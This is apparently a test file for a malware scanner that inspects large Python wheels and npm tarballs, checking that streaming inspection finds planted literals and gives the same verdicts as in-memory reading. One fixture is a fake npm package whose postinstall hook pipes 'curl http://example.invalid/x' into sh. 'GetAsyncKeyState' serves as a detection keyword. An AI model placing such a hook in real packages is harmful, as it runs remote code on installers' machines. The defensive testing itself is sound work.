import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateRawSync, gzipSync } from "node:zlib";
import { tar, type ZipMember, zipOf } from "../../test/support/archives.ts";
import type { Packed } from "../lib/archives/packed.ts";
import { sha256Hex } from "../lib/digest.ts";
import { DEFAULT_LIMITS } from "../limits.ts";
import { inspect, inspectLarge } from "./inspect.ts";
import { passLargeMembers } from "./large-members.ts";
import { PREFILTER } from "./searched.ts";
import { unpack } from "./unpack.ts";

const LARGE = 16 << 20;
const METADATA = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n";

/** A native library whose only words stand in its last bytes, cut by no boundary that a reader could happen to have. */
function library(words: string): Buffer {
  const bytes = Buffer.alloc(LARGE + 5000);
  bytes.write("\x7fELF\x02\x01\x01", "latin1");
  bytes.write(words, bytes.length - 1000, "latin1");
  return bytes;
}

function wheel(...members: readonly ZipMember[]): Buffer {
  return zipOf([{ path: "demo-1.0.dist-info/METADATA", bytes: METADATA }, ...members]);
}

/** As an inspector reads a file: never as a whole. */
function fromFile(bytes: Buffer): Packed & { largest: number } {
  const packed = {
    largest: 0,
    length: bytes.length,
    slice(start: number, end: number) {
      packed.largest = Math.max(packed.largest, end - start);
      return Buffer.from(bytes.subarray(start, end));
    },
  };
  return packed;
}

const about = { filename: "demo-1.0-py3-none-any.whl", ecosystem: "pypi" } as const;
const tree = async (bytes: Buffer) => {
  const packed = fromFile(bytes);
  const large = await passLargeMembers(packed, DEFAULT_LIMITS, PREFILTER);
  return {
    packed,
    files: unpack({ ...about, bytes: packed, ...(large && { large }) }, DEFAULT_LIMITS, PREFILTER).files,
  };
};

for (const store of [true, false]) {
  test(`a large native library (${store ? "stored" : "deflated"}) is searched to its end without being held`, async () => {
    const content = library("GetAsyncKeyState");
    const { packed, files } = await tree(wheel({ path: "demo/core.so", bytes: content, store }));
    const file = files.find(({ path }) => path === "demo/core.so")!;
    assert.equal(file.kind, "executable");
    assert.equal(file.size, content.length);
    assert.equal(file.sha256, sha256Hex(content));
    assert.ok(file.bytes.equals(content.subarray(0, 1 << 20)));
    assert.deepEqual(file.hits.literals(), PREFILTER.scan(content).literals());
    assert.ok(packed.largest <= 1 << 18, `${packed.largest} bytes were read at once`);
  });
}

test("a literal that parts of a large member cut in two is found, as UTF-16 too", async () => {
  const content = library("");
  for (let at = 1 << 18; at < content.length; at += 1 << 18) content.write("GetAsyncKeyState", at - 5, "latin1");
  const wide = library("");
  for (let at = 1 << 18; at < wide.length; at += 1 << 18) wide.write("GetAsyncKeyState", at - 9, "utf16le");
  for (const bytes of [content, wide]) {
    const { files } = await tree(wheel({ path: "demo/core.so", bytes, store: true }));
    assert.ok(files.find(({ path }) => path === "demo/core.so")!.has("GetAsyncKeyState"));
  }
});

test("the verdict on a wheel does not depend on whether its large members were held", async () => {
  const bytes = wheel({ path: "demo/core.so", bytes: library("x") }, { path: "demo/__init__.py", bytes: "x = 1\n" });
  const [held, passed] = [inspect({ ...about, bytes }), await inspectLarge({ ...about, bytes: fromFile(bytes) })];
  assert.equal(passed.sha256, held.sha256);
  assert.deepEqual([passed.verdict, passed.findings], [held.verdict, held.findings]);
  assert.equal(passed.facts?.unpackedBytes, held.facts?.unpackedBytes);
});

test("large code, assemblies and archives are held and read like small ones", async () => {
  const code = Buffer.alloc(LARGE + 1, "x = 1\n");
  const disguised = Buffer.alloc(LARGE + 1);
  disguised.write("MZ", "latin1");
  const members: ZipMember[] = [
    { path: "demo/data.py", bytes: code },
    { path: "demo/late.dll", bytes: disguised },
  ];
  const { files } = await tree(wheel(...members));
  const sizes = files.filter(({ path }) => path.startsWith("demo/")).map(({ bytes }) => bytes.length);
  assert.deepEqual(sizes, [LARGE + 1, LARGE + 1]);
});

test("a large member that lies about its size, its checksum or its end is refused", async () => {
  const content = library("x");
  const packed = deflateRawSync(content);
  const damaged = Buffer.from(wheel({ path: "demo/core.so", bytes: content }));
  damaged[damaged.indexOf("demo/core.so") + 40]! ^= 0xff;
  const lies: readonly (readonly [Buffer, RegExp])[] = [
    [damaged, /damaged|checksum|another size/],
    [wheel({ path: "demo/core.so", bytes: content, packed: packed.subarray(0, -10) }), /too early|damaged/],
    [wheel({ path: "demo/core.so", bytes: content, packed: Buffer.concat([packed, Buffer.alloc(9)]) }), /end before/],
  ];
  for (const [bytes, says] of lies) {
    const { verdict } = await inspectLarge({ ...about, bytes: fromFile(bytes) });
    assert.equal(verdict.word, "unknown");
    assert.match(verdict.because ?? "", says);
  }
});

const MIB = 1 << 20;
const npm = { filename: "demo-1.0.0.tgz", ecosystem: "npm" } as const;

/** An npm package with a source map, code, and a program that runs at installation, which unpacks to more than is worth holding. */
function tarball(): { readonly map: Buffer; readonly packed: Buffer } {
  const map = Buffer.alloc(60 * MIB, " ");
  map.write('{"version":3}');
  map.write("GetAsyncKeyState", map.length - 20);
  const files = {
    "package/package.json": '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node a.js"}}',
    "package/a.js": "require('child_process').exec('curl http://example.invalid/x | sh')\n",
    "package/a.js.map": map,
    "package/b.node": Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(50 * MIB)]),
    "package/c.js.map": '{"version":3}',
  };
  return { map, packed: gzipSync(tar(files), { level: 0 }) };
}

test("of a large tar, source maps and programs keep their first part, their digest and what a search to their end found", async () => {
  const { map, packed } = tarball();
  const large = await passLargeMembers(fromFile(packed), DEFAULT_LIMITS, PREFILTER);
  assert.ok(large?.tar);
  const { files } = unpack({ ...npm, bytes: fromFile(packed), large }, DEFAULT_LIMITS, PREFILTER);
  const file = files.find(({ path }) => path === "package/a.js.map")!;
  assert.deepEqual([file.bytes.length, file.size, file.sha256], [MIB / 4, map.length, sha256Hex(map)]);
  assert.ok(file.has("GetAsyncKeyState"));
  const small = files.find(({ path }) => path === "package/c.js.map")!;
  assert.deepEqual([small.bytes.length, small.size], [13, 13]);
});

test("the verdict on a large tarball does not depend on whether its large members were held", async () => {
  const { packed } = tarball();
  const [held, passed] = [inspect({ ...npm, bytes: packed }), await inspectLarge({ ...npm, bytes: fromFile(packed) })];
  assert.equal(held.verdict.word, "malicious");
  assert.deepEqual([passed.verdict, passed.findings], [held.verdict, held.findings]);
  assert.equal(passed.facts?.unpackedBytes, held.facts?.unpackedBytes);
});

test("a large tarball that is damaged, or that lies about its length, is refused", async () => {
  const { packed } = tarball();
  const damaged = Buffer.from(packed);
  damaged[damaged.length >> 1]! ^= 0xff;
  const lies = [
    [damaged, /damaged|checksum|too early/],
    [packed.subarray(0, -8), /too early|neither/],
    [Buffer.concat([packed.subarray(0, -4), Buffer.from([0xff, 0xff, 0xff, 0xff])]), /length/],
  ] as const;
  for (const [bytes, says] of lies) {
    const { verdict } = await inspectLarge({ ...npm, bytes: fromFile(bytes) });
    assert.equal(verdict.word, "unknown");
    assert.match(verdict.because ?? "", says);
  }
});
